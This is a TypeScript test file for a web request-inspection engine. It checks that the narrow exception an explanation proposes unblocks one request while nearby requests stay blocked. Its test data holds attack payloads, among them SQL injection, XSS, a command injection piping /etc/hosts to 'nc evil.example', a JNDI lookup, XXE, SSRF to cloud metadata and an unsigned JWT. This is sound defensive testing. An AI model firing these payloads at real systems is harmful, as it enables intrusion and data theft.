// For each detection of requests: the exception that the explanation prints, pasted as it is, lets the blocked transaction pass,
// and neither the same attack in another place nor the same place on another endpoint.
import { describe, expect, it } from 'vitest';
import { explanationOf } from '../../src/admin/explanation.ts';
import { DEFAULT_CONTRACT_ANSWERS } from '../../src/core/contract.ts';
import type { PolicyDocument } from '../../src/core/document.ts';
import type { TransactionRecord } from '../../src/core/record.ts';
import { createDefaultEngine } from '../../src/inspection/default-engine.ts';
import { runRecorded } from '../../src/inspection/run-recorded.ts';
import { smallestException } from '../../src/inspection/smallest-exception.ts';
import { compileSnapshot } from '../../src/inspection/snapshot.ts';
import { ContractTable } from '../../src/openapi/contract-table.ts';
import { bundleOf } from '../../src/policy/bundle.ts';
import { validateDocument } from '../../src/policy/validate.ts';
import { readYaml } from '../../src/yaml/read.ts';
import { contractOf } from '../openapi/held.ts';
import { shippedPolicies } from '../support/shipped-policies.ts';
import { type CorpusRequest, get, post, postJson } from './transaction.ts';

/** Compiling the data types of all other documents takes longer than the rest of this file. */
const shipped = shippedPolicies('detectors').documents;
const token = (header: object): string =>
  `${Buffer.from(JSON.stringify(header)).toString('base64url')}.${Buffer.from('{"sub":"7"}').toString('base64url')}.`;

/** A value in one field of a JSON body, in the field beside it, and in the same one elsewhere. */
const inJson = (value: unknown, field = 'value', path = '/api/items'): CorpusRequest =>
  postJson(path, { id: 4, [field]: value });
const inBody = (value: unknown): readonly CorpusRequest[] => [
  inJson(value),
  inJson(value, 'other'),
  inJson(value, 'value', '/api/orders'),
];
const inQuery = (value: string, name = 'page'): readonly CorpusRequest[] => [
  get(`/api/items?${name}=${encodeURIComponent(value)}`),
  get(`/api/items?${name}2=${encodeURIComponent(value)}`),
  get(`/api/orders?${name}=${encodeURIComponent(value)}`),
];
const withHeader = (name: string, value: string): readonly CorpusRequest[] => [
  get('/api/items', { [name]: value }),
  get('/api/orders', { [name]: value }),
];

/** `answer`: text of an answer with status 200. */
type Explained = CorpusRequest & { readonly answer?: string };

const PARCEL = `{ type: object, properties: { weight: { type: number }, size: { type: number }, role: { type: string, readOnly: true } } }`;
const POSTED = `{ post: { requestBody: { content: { application/json: { schema: ${PARCEL} } } }, responses: {} } }`;
const CONTRACTS = new ContractTable(
  [
    {
      ...contractOf(`openapi: 3.1.0
info: { title: Post, version: "1" }
paths: { /api/parcels: ${POSTED}, /api/letters: ${POSTED} }`),
      route: 'default',
    },
  ],
  () => ({ ...DEFAULT_CONTRACT_ANSWERS, unknownPaths: 'off' }),
);

/** The blocked request, then neighbours that stay blocked. */
const ROWS: Readonly<Record<string, readonly Explained[]>> = {
  'injection-sql': inBody("x' UNION SELECT name, secret FROM accounts-- "),
  xss: inBody('<svg onload=alert(1)>'),
  'injection-command': inBody('127.0.0.1; cat /etc/hosts | nc evil.example 4444'),
  'injection-code': inBody(`$${'{jndi:ldap://evil.example/a}'}`),
  'injection-template': inBody('{{7*7}}'),
  'path-traversal': inQuery('../../../../srv/secret.bin'),
  'file-inclusion': inQuery('php://filter/convert.base64-encode/resource=index', 'file'),
  ssrf: inBody('http://169.254.169.254/latest/meta-data/'),
  xxe: inBody('<!DOCTYPE r [<!ENTITY x SYSTEM "http://evil.example/x">]><r>&x;</r>'),
  'injection-ldap': inBody('*)(uid=*))(|(uid=*'),
  'injection-xpath': inBody("'] | //user/*[contains(*,'"),
  'injection-nosql': [
    postJson('/api/login', { user: 'ann', password: { $ne: '' } }),
    postJson('/api/login', { user: { $ne: '' }, password: 'x' }),
    postJson('/api/sessions', { user: 'ann', password: { $ne: '' } }),
  ],
  'injection-crlf': inQuery('en\r\nSet-Cookie: sid=1'),
  'injection-mail': inQuery('a@b.example\r\nBcc: c@d.example', 'mail'),
  'injection-ssi': inBody('<!--#exec cmd="ls" -->'),
  'prototype-pollution': [
    post('/api/items', 'application/json', '{"a":{"__proto__":{"b":1}}}'),
    post('/api/items', 'application/json', '{"c":{"__proto__":{"b":1}}}'),
    post('/api/orders', 'application/json', '{"a":{"__proto__":{"b":1}}}'),
  ],
  'jwt-tampering': withHeader('authorization', `Bearer ${token({ alg: 'none' })}`),
  'schema-violation': [
    postJson('/api/parcels', { weight: 'heavy' }),
    postJson('/api/parcels', { weight: 1, size: 'large' }),
    postJson('/api/letters', { weight: 'heavy' }),
  ],
  'mass-assignment': [
    postJson('/api/parcels', { weight: 1, role: 'admin' }),
    postJson('/api/letters', { weight: 1, role: 'admin' }),
  ],
  'web-shell-response': [
    { ...get('/api/ping'), answer: 'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n' },
    { ...get('/api/pong'), answer: 'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n' },
  ],
  'scanner-signature': withHeader('user-agent', 'sqlmap/1.7#stable (https://sqlmap.org)'),
  'graphql-abuse': ['/graphql', '/v2/graphql'].map((path) =>
    postJson(path, { query: `{${'a{'.repeat(40)}id${'}'.repeat(41)}` }),
  ),
};

/** Of what is found in a field; the depth of a GraphQL query and the like have none. */
const POINTER = /^(?:\/\S+)?$/;
const bundleWith = (operator: readonly PolicyDocument[]) => bundleOf(shipped, operator).bundle;
const VERSION = bundleWith([]).version;

describe('the smallest exception', () => {
  const before = engineWith([]);
  const explained = Object.entries(ROWS).map(([detection, [blocked, ...neighbours]], i) => {
    const record = { ...before(blocked!), id: `tx-${i}` };
    const yaml = smallestException(record.findings, record.endpoint, record.id);
    const explanation = explanationOf(record, bundleWith([]), undefined, []);
    return { detection, blocked: blocked!, neighbours, explanation, action: record.action, yaml };
  });
  // All of them at once: each has an endpoint, a place and a detection of its own, and the neighbours have none.
  const after = engineWith(explained.flatMap(({ yaml }) => documentsOf(yaml)));

  it.each(explained.map((row) => [row.detection, row] as const))(
    'for %s lets its transaction pass and no neighbour',
    (detection, { blocked, neighbours, explanation, action, yaml }) => {
      expect(action).toBe('block');
      const explained = explanation.findings.find((finding) => finding.detection === detection);
      expect(explanation).toMatchObject({
        rule: 'finding-blocks',
        action: 'block',
        policyVersion: VERSION,
        liveVersion: VERSION,
      });
      expect(explained).toMatchObject({
        policy: { kind: 'detector', id: detection },
        source: expect.stringMatching(new RegExp(`detectors/${detection}\\.yaml:[1-9]\\d*$`)),
        what: expect.stringMatching(/\w+ \w+/),
        isFromOtherVersion: false,
      });
      expect(explained!.pointer, explained!.what).toMatch(POINTER);
      expect(explanation.smallestException).toBe(yaml);
      expect(after(blocked).action, yaml).not.toBe('block');
      expect(neighbours.length).toBeGreaterThan(0);
      for (const neighbour of neighbours) expect(after(neighbour).action, yaml).toBe('block');
    },
  );
});

function documentsOf(yaml: string): PolicyDocument[] {
  const { documents, faults } = readYaml(yaml, 'pasted.yaml');
  expect(faults).toEqual([]);
  return documents.map((document) => {
    const validated = validateDocument(document, 'pasted.yaml', false);
    if ('fault' in validated) throw new Error(validated.fault.message);
    return validated.document;
  });
}

function engineWith(operator: readonly PolicyDocument[]): (request: Explained) => TransactionRecord {
  let record: TransactionRecord | undefined;
  const engine = createDefaultEngine(
    { ...compileSnapshot(bundleWith(operator), []), contracts: CONTRACTS },
    'enforce',
    (made) => {
      record = made;
    },
  );
  return (request) => {
    runRecorded(engine, 'tx-1', {
      at: Date.UTC(2027, 0, 1),
      clientAddress: '198.51.100.7',
      request: {
        method: request.method,
        url: request.url,
        rawHeaders: Object.entries({ host: 'api.example.com', ...request.headers }).flat(),
        body: request.body,
        isDecoded: false,
      },
      response:
        request.answer === undefined
          ? undefined
          : {
              status: 200,
              rawHeaders: ['content-type', 'text/plain'],
              body: Buffer.from(request.answer),
              isDecoded: true,
            },
    });
    return record!;
  };
}
